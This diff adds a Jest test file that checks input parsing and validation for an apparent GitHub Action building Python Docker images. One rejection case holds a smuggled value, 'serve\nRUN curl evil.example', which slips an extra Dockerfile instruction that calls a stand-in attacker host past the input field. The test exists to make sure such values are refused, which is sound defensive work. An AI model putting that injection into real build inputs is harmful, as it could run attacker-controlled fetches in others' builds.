@@ -1,0 +1,283 @@
+import {
+  afterAll,
+  afterEach,
+  beforeEach,
+  describe,
+  expect,
+  it
+} from '@jest/globals'
+import path from 'node:path'
+import { ConfigurationError } from '../../src/errors.js'
+import { getSettings, type Settings } from '../../src/inputs.js'
+import {
+  inputReader,
+  removeTempTrees,
+  tempTree,
+  thrownBy
+} from '../support/fixtures.js'
+
+// The repository the action runs in: inputs resolve paths against it.
+const WORKSPACE_FILES = {
+  'requirements.txt': 'flask\n',
+  'service/requirements.txt': 'flask\n',
+  'service/docker/Dockerfile.prod': 'FROM python:3.13\n',
+  'certs/ca.pem': '-----BEGIN CERTIFICATE-----\n',
+  'certs/dir/.keep': ''
+}
+
+/** What action.yml declares as defaults, as the runner passes them. */
+const ACTION_DEFAULTS = {
+  'working-directory': '.',
+  'python-version': '',
+  'package-manager': 'auto',
+  command: '',
+  runtime: 'auto',
+  baseline: 'auto',
+  'max-size': '',
+  'smoke-test': 'auto',
+  'smoke-test-timeout': '60',
+  build: 'true',
+  'ca-certificates': '',
+  'keep-images': 'false',
+  'github-token': ''
+}
+
+let workspace: string
+const savedWorkspace = process.env.GITHUB_WORKSPACE
+
+beforeEach(() => {
+  workspace = tempTree(WORKSPACE_FILES)
+  process.env.GITHUB_WORKSPACE = workspace
+})
+
+afterEach(() => {
+  if (savedWorkspace === undefined) delete process.env.GITHUB_WORKSPACE
+  else process.env.GITHUB_WORKSPACE = savedWorkspace
+})
+
+afterAll(removeTempTrees)
+
+function defaults(): Settings {
+  return {
+    workingDirectory: workspace,
+    pythonVersion: undefined,
+    packageManager: 'auto',
+    command: undefined,
+    runtime: { kind: 'auto' },
+    baseline: { kind: 'auto' },
+    budgets: { maxSize: undefined },
+    smokeTest: { kind: 'auto', timeoutSeconds: 60 },
+    build: true,
+    caCertificates: undefined,
+    keepImages: false,
+    githubToken: ''
+  }
+}
+
+describe('getSettings defaults', () => {
+  it('reads no inputs as the defaults', () => {
+    expect(getSettings(inputReader({}))).toEqual(defaults())
+  })
+
+  it("reads action.yml's default values as the defaults", () => {
+    expect(getSettings(inputReader(ACTION_DEFAULTS))).toEqual(defaults())
+  })
+})
+
+describe('getSettings accepts', () => {
+  const cases: {
+    inputs: Record<string, string>
+    expected: (workspace: string) => Partial<Settings>
+  }[] = [
+    {
+      inputs: { 'working-directory': 'service' },
+      expected: ws => ({ workingDirectory: path.join(ws, 'service') })
+    },
+    {
+      inputs: { 'working-directory': ' service/ ' },
+      expected: ws => ({ workingDirectory: path.join(ws, 'service') })
+    },
+    {
+      inputs: { 'python-version': '3.12' },
+      expected: () => ({ pythonVersion: '3.12' })
+    },
+    {
+      inputs: { 'python-version': '3.12.4' },
+      expected: () => ({ pythonVersion: '3.12' })
+    },
+    {
+      inputs: { 'python-version': '3.9' },
+      expected: () => ({ pythonVersion: '3.9' })
+    },
+    {
+      inputs: { 'package-manager': 'pip' },
+      expected: () => ({ packageManager: 'pip' })
+    },
+    {
+      inputs: { 'package-manager': 'Poetry' },
+      expected: () => ({ packageManager: 'poetry' })
+    },
+    {
+      inputs: { command: 'gunicorn app:app' },
+      expected: () => ({ command: ['gunicorn', 'app:app'] })
+    },
+    {
+      inputs: { command: '["uvicorn", "app:app"]' },
+      expected: () => ({ command: ['uvicorn', 'app:app'] })
+    },
+    {
+      inputs: { runtime: 'slim' },
+      expected: () => ({ runtime: { kind: 'slim' } })
+    },
+    {
+      inputs: { runtime: 'distroless' },
+      expected: () => ({ runtime: { kind: 'distroless' } })
+    },
+    {
+      inputs: { runtime: 'python:3.13-slim' },
+      expected: () => ({
+        runtime: { kind: 'image', image: 'python:3.13-slim' }
+      })
+    },
+    {
+      inputs: { runtime: 'ghcr.io/acme/python@sha256:0123abcd' },
+      expected: () => ({
+        runtime: { kind: 'image', image: 'ghcr.io/acme/python@sha256:0123abcd' }
+      })
+    },
+    {
+      inputs: { baseline: 'generated' },
+      expected: () => ({ baseline: { kind: 'generated' } })
+    },
+    {
+      inputs: {
+        'working-directory': 'service',
+        baseline: 'docker/Dockerfile.prod'
+      },
+      expected: ws => ({
+        workingDirectory: path.join(ws, 'service'),
+        baseline: {
+          kind: 'dockerfile',
+          path: path.join(ws, 'service/docker/Dockerfile.prod')
+        }
+      })
+    },
+    {
+      inputs: { 'max-size': '150MB' },
+      expected: () => ({ budgets: { maxSize: 150_000_000 } })
+    },
+    {
+      inputs: { 'max-size': '120 MiB' },
+      expected: () => ({ budgets: { maxSize: 120 * 1024 ** 2 } })
+    },
+    {
+      inputs: { 'smoke-test': 'off' },
+      expected: () => ({ smokeTest: { kind: 'off' } })
+    },
+    {
+      inputs: { 'smoke-test': 'false' },
+      expected: () => ({ smokeTest: { kind: 'off' } })
+    },
+    {
+      inputs: {
+        'smoke-test': 'python -c "import app"',
+        'smoke-test-timeout': '120'
+      },
+      expected: () => ({
+        smokeTest: {
+          kind: 'command',
+          argv: ['python', '-c', 'import app'],
+          timeoutSeconds: 120
+        }
+      })
+    },
+    {
+      inputs: { 'smoke-test-timeout': '5' },
+      expected: () => ({ smokeTest: { kind: 'auto', timeoutSeconds: 5 } })
+    },
+    { inputs: { build: 'false' }, expected: () => ({ build: false }) },
+    { inputs: { build: 'No' }, expected: () => ({ build: false }) },
+    { inputs: { build: 'on' }, expected: () => ({ build: true }) },
+    {
+      inputs: { 'keep-images': 'TRUE' },
+      expected: () => ({ keepImages: true })
+    },
+    {
+      inputs: { 'ca-certificates': 'certs/ca.pem' },
+      expected: ws => ({ caCertificates: path.join(ws, 'certs/ca.pem') })
+    },
+    {
+      inputs: { 'github-token': 'ghs_secret' },
+      expected: () => ({ githubToken: 'ghs_secret' })
+    }
+  ]
+
+  it.each(cases)('$inputs', ({ inputs, expected }) => {
+    expect(getSettings(inputReader(inputs))).toEqual({
+      ...defaults(),
+      ...expected(workspace)
+    })
+  })
+})
+
+describe('getSettings rejects', () => {
+  // input, bad value, the expected form the message must state
+  const cases: [string, string, RegExp][] = [
+    ['working-directory', 'missing', /expected the path of the Python project/],
+    ['working-directory', 'requirements.txt', /expected the path/],
+    ['python-version', '3', /expected major\.minor such as 3\.13/],
+    ['python-version', '2.7', /expected major\.minor/],
+    ['python-version', '3.x', /expected major\.minor/],
+    ['python-version', 'latest', /expected major\.minor/],
+    ['python-version', '3.13.1.2', /expected major\.minor/],
+    ['package-manager', 'npm', /expected auto, pip, poetry/],
+    ['package-manager', 'pipenv', /expected auto, pip, poetry/],
+    ['command', "gunicorn 'app:app", /expected balanced quotes/],
+    ['command', '[1, 2]', /expected a form such as \["uvicorn", "app:app"\]/],
+    ['command', '[]', /expected a command such as/],
+    ['runtime', 'python 3.13', /image reference such as python:3\.13-slim/],
+    ['runtime', '-slim', /neither auto, distroless, slim nor an image/],
+    ['baseline', 'Dockerfile.missing', /expected auto, generated, or the path/],
+    ['baseline', 'certs', /expected auto, generated, or the path/],
+    ['max-size', 'ten', /expected a number of bytes, .*e\.g\. 150MB/],
+    ['max-size', '10XB', /expected a number of bytes/],
+    ['max-size', '-5MB', /expected a number of bytes/],
+    ['smoke-test', "python -c 'import app", /expected balanced quotes/],
+    ['smoke-test-timeout', '0', /expected a whole number above 0/],
+    ['smoke-test-timeout', 'soon', /expected a whole number above 0/],
+    ['smoke-test-timeout', '1.5', /expected a whole number above 0/],
+    ['smoke-test-timeout', '-3', /expected a whole number above 0/],
+    ['build', 'maybe', /expected true or false/],
+    ['keep-images', 'sometimes', /expected true or false/],
+    [
+      'ca-certificates',
+      'certs/missing.pem',
+      /expected the path of a PEM bundle/
+    ],
+    ['ca-certificates', 'certs/dir', /expected the path of a PEM bundle/],
+    // A line break could smuggle an instruction into the Dockerfile.
+    ['python-version', '3.13\n3.12', /expected a single line of text/],
+    ['command', 'serve\nRUN curl evil.example', /expected a single line/],
+    ['runtime', 'slim\rdistroless', /expected a single line of text/],
+    ['working-directory', 'app\tdir', /expected a single line of text/],
+    ['max-size', '150MB\u0000', /expected a single line of text/],
+    ['baseline', 'Dockerfile\u001b[31m', /expected a single line of text/]
+  ]
+
+  it.each(cases)('%s: %j', (name, value, expectedForm) => {
+    const error = thrownBy(() => getSettings(inputReader({ [name]: value })))
+    expect(error).toBeInstanceOf(ConfigurationError)
+    expect(error.message).toMatch(new RegExp(`^Input ${name}\\b`))
+    expect(error.message).toContain(JSON.stringify(value))
+    expect(error.message).toMatch(expectedForm)
+    expect(error.message).not.toMatch(/[\n\r]/)
+  })
+
+  it('never checks or repeats the github-token', () => {
+    const token = 'ghs_line1\nline2'
+    expect(getSettings(inputReader({ 'github-token': token }))).toEqual({
+      ...defaults(),
+      githubToken: token
+    })
+  })
+})
